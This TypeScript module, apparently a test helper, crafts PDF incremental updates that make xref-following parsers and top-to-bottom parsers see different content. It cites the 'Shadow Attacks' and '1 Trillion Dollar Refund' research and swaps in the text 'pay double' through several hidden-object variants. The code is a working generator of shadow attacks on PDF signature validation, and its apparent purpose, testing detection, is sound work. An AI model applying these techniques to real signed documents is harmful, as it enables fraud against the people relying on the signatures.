// Updates written by hand, in which programs that follow the cross-reference table see another document than those that
// read from top to bottom (USENIX Security 2019 "1 Trillion Dollar Refund", NDSS 2021 "Shadow Attacks").

interface Written {
  /** Object by number, or text that belongs to none. */
  objects: string[];
  /** Entries of the table: number, and what they point at, as it stands in the update; `null` frees it. */
  entries: [number, string | number | null][];
}

export const hiddenObjects = (issued: Uint8Array) => {
  const text = Buffer.from(issued).toString("latin1");
  const size = Number(/\/Size (\d+)/.exec(text.slice(text.lastIndexOf("trailer")))?.[1]);
  const root = /\/Root (\d+ \d+ R)/.exec(text)?.[1];
  const end = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  // The first page, as it stands in the file.
  const page = /(?:^|\n)(\d+) 0 obj\n(<<(?:(?!endobj)[\s\S])*?\/Type \/Page\b(?:(?!endobj)[\s\S])*?)\nendobj/.exec(
    text,
  );
  const pageNumber = Number(page?.[1]);
  const pageBody = page?.[2] ?? "";
  if (!size || !root || !end || !pageNumber) throw new Error("the document is not written as expected");

  const update = (before: Uint8Array, { objects, entries }: Written, previous = end): Uint8Array => {
    const body = `\n${objects.join("\n")}\n`;
    const at = before.length + body.length;
    const lines = entries.map(([number, where]) => {
      if (where === null) return `${number} 1\n0000000000 65535 f \n`;
      const offset = typeof where === "number" ? where : before.length + body.lastIndexOf(where);
      return `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
    });
    const table = `xref\n0 1\n0000000000 65535 f \n${lines.join("")}trailer\n<< /Size ${size + 9} /Root ${root} /Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`;
    return Buffer.concat([before, Buffer.from(body + table, "latin1")]);
  };
  const fresh = size + 1;
  const lie = pageBody.replace(/\/Contents \d+ 0 R/, `/Contents ${fresh} 0 R`);
  const stream = (content: string, number = fresh) =>
    `${number} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj`;
  const otherText = stream("BT /F1 12 Tf 72 700 Td (Si paga il doppio) Tj ET");
  const freshHead = `${fresh} 0 obj`;
  const pageHead = `${pageNumber} 0 obj`;
  const lastTable = (bytes: Uint8Array) =>
    Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(Buffer.from(bytes).toString("latin1"))?.[1]);

  return {
    inStream: () =>
      update(issued, {
        objects: [otherText, stream(`${pageHead}\n${lie}\nendobj`, fresh + 1)],
        entries: [
          [fresh, freshHead],
          [fresh + 1, `${fresh + 1} 0 obj`],
          [pageNumber, pageHead],
        ],
      }),
    keyTwice: () =>
      update(issued, {
        objects: [otherText, `${pageHead}\n${pageBody.replace("<<", `<< /Contents ${fresh} 0 R`)}\nendobj`],
        entries: [
          [fresh, freshHead],
          [pageNumber, pageHead],
        ],
      }),
    freed: () =>
      update(issued, {
        objects: [otherText],
        entries: [
          [fresh, freshHead],
          [pageNumber, null],
        ],
      }),
    writtenTwice: () =>
      update(issued, {
        objects: [otherText, `${pageHead}\n${lie}\nendobj`, `${pageHead}\n${pageBody}\nendobj`],
        entries: [
          [fresh, freshHead],
          [pageNumber, `${pageHead}\n${lie}`],
        ],
      }),
    unnamed: () =>
      update(issued, { objects: [otherText, `${fresh + 1} 0 obj\n<< >>\nendobj`], entries: [[fresh, freshHead]] }),
    jumping: () => {
      const first = update(issued, { objects: [otherText], entries: [[fresh, freshHead]] });
      return update(first, {
        objects: [`${fresh + 1} 0 obj\n<< >>\nendobj`],
        entries: [[fresh + 1, `${fresh + 1} 0 obj`]],
      });
    },
    /** After an update that changed the first page, points its entry at the page as it was. */
    backwards: (changed: Uint8Array) =>
      update(
        changed,
        {
          objects: [otherText],
          entries: [
            [fresh + 4, 0],
            [fresh, freshHead],
            [pageNumber, text.indexOf(`\n${pageHead}`) + 1],
          ].filter(([n]) => n !== fresh + 4) as Written["entries"],
        },
        lastTable(changed),
      ),
  };
};
